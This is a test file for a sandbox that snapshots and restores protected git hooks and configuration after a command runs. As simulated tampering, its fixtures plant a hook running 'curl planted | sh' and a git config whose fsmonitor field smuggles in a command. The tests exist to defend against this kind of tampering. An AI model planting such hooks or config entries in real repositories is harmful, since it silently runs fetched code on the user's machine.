import { execFile, execFileSync } from 'node:child_process';
import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ProtectedBaselines, ProtectedSnapshot } from '../../../src/tools/sandbox/protected-snapshot.js';
import { TSX } from '../../support/service-process.js';

const RACE = fileURLToPath(new URL('./support/put-back-race.ts', import.meta.url));

let dir: string;
beforeEach(() => {
  dir = realpathSync(mkdtempSync(join(tmpdir(), 'mada-protected-snapshot-')));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

/** A real repository with a hook the user wrote. */
function repositoryWithHook(): { hooks: string; hook: string } {
  execFileSync('git', ['init', '-q', dir]);
  const hooks = join(dir, '.git', 'hooks');
  const hook = join(hooks, 'pre-commit');
  writeFileSync(hook, '#!/bin/sh\necho checked by the user\n', { mode: 0o755 });
  return { hooks, hook };
}

describe('the protected-file snapshot', () => {
  it('puts back a link to a name that is not UTF-8 with its very bytes', () => {
    const target = Buffer.concat([Buffer.from('../shared-hooks-'), Buffer.from([0xff])]);
    const hooks = join(dir, 'hooks');
    symlinkSync(target, hooks);
    const snapshot = ProtectedSnapshot.take([hooks]);
    unlinkSync(hooks);
    symlinkSync('/tmp/planted-hooks', hooks);
    expect(snapshot.restore()).toEqual([hooks]);
    expect(readlinkSync(hooks, { encoding: 'buffer' })).toEqual(target);
  });

  it('never leaves a hook missing while it puts it back, so a concurrent command does not delete it', async () => {
    const { hooks, hook } = repositoryWithHook();
    const before = readFileSync(hook);
    const run = promisify(execFile);
    const side = (...args: string[]) => run(process.execPath, ['--conditions=mada-source', '--import', TSX, RACE, ...args]);
    // One command's put-back rewrites the hook while another command, which changes nothing,
    // snapshots the hooks directory and restores it: both as real processes, at the same time.
    const meet = join(dir, 'meet');
    mkdirSync(meet);
    const [writer, other] = await Promise.all([side('put', meet, hook), side('cycle', meet, hooks, hook)]);
    const puts = JSON.parse(writer.stdout) as { puts: number; failed: number };
    const cycles = JSON.parse(other.stdout) as { cycles: number; restores: number; missing: number };
    // The other command's restore never deleted or wrote anything, the hook was never missing,
    // and no put-back failed on what the other one did meanwhile.
    expect({ failed: puts.failed, restores: cycles.restores, missing: cycles.missing }).toEqual({ failed: 0, restores: 0, missing: 0 });
    expect(puts.puts).toBeGreaterThan(100);
    expect(cycles.cycles).toBeGreaterThanOrEqual(200);
    expect(readFileSync(hook)).toEqual(before);
    expect(lstatSync(hook).mode & 0o777).toBe(0o755);
    // No temporary name is left beside it.
    expect(readdirSync(hooks).filter((name) => !name.endsWith('.sample'))).toEqual(['pre-commit']);
  }, 60_000);

  it('gives a hooks directory back its mode without losing the hooks in it', () => {
    const { hooks, hook } = repositoryWithHook();
    const snapshot = ProtectedSnapshot.take([hooks]);
    chmodSync(hooks, 0o700);
    expect(snapshot.restore()).toEqual([hooks]);
    expect(lstatSync(hooks).mode & 0o777).toBe(0o755);
    expect(readFileSync(hook, 'utf8')).toBe('#!/bin/sh\necho checked by the user\n');
  });

  it('replaces a directory the command left where a hook was, and a hard link to the hook keeps only its own copy', () => {
    const { hooks, hook } = repositoryWithHook();
    const snapshot = ProtectedSnapshot.take([hooks]);
    const linked = join(dir, 'linked');
    execFileSync('ln', [hook, linked]);
    writeFileSync(linked, '#!/bin/sh\ncurl planted | sh\n');
    const other = join(hooks, 'post-checkout');
    writeFileSync(other, 'planted');
    unlinkSync(join(hooks, 'pre-push.sample'));
    mkdirSync(join(hooks, 'pre-push.sample'));
    expect(snapshot.restore()).toEqual([hook, other, join(hooks, 'pre-push.sample')].sort());
    expect(readFileSync(hook, 'utf8')).toBe('#!/bin/sh\necho checked by the user\n');
    expect(lstatSync(hook).ino).not.toBe(lstatSync(linked).ino);
    expect(lstatSync(join(hooks, 'pre-push.sample')).isFile()).toBe(true);
    expect(lstatSync(other, { throwIfNoEntry: false })).toBeUndefined();
  });
});

describe('the baselines shared by overlapping commands', () => {
  it('restores the second command to what was there before the first, and drops the baseline when the last ends', () => {
    const { hooks, hook } = repositoryWithHook();
    const config = join(dir, '.git', 'config');
    const [userHook, userConfig] = [readFileSync(hook), readFileSync(config)];
    const baselines = new ProtectedBaselines();
    const a = baselines.take([config, hooks], [dir]);
    writeFileSync(hook, '#!/bin/sh\ncurl planted | sh\n');
    writeFileSync(config, '[core]\n\tfsmonitor = touch /tmp/planted\n');
    const b = baselines.take([config, hooks], [dir]);
    expect(a.restore()).toEqual([config, hook]);
    a.release();
    expect(baselines.size).toBe(2);
    expect(b.restore()).toEqual([]);
    b.release();
    expect([readFileSync(hook), readFileSync(config)]).toEqual([userHook, userConfig]);
    expect(baselines.size).toBe(0);
    // With none running, the user's own change is what the next command starts from.
    writeFileSync(hook, '#!/bin/sh\necho changed by the user\n');
    const c = baselines.take([config, hooks], [dir]);
    expect(c.restore()).toEqual([]);
    c.release();
  });

  it('keeps a baseline while a running command can write it, though it protects other paths', () => {
    const { hooks, hook } = repositoryWithHook();
    const baselines = new ProtectedBaselines();
    const first = baselines.take([hooks], [dir]);
    const other = baselines.take([join(dir, 'elsewhere', '.git', 'hooks')], [dir]);
    first.restore();
    first.release();
    // `other` could have planted a hook here since: the next command must not take that as the original.
    writeFileSync(join(hooks, 'post-checkout'), 'planted');
    const next = baselines.take([hooks], [dir]);
    other.restore();
    other.release();
    expect(next.restore()).toEqual([join(hooks, 'post-checkout')]);
    next.release();
    expect(readdirSync(hooks).filter((name) => !name.endsWith('.sample'))).toEqual(['pre-commit']);
    expect(existsSync(hook)).toBe(true);
  });
});
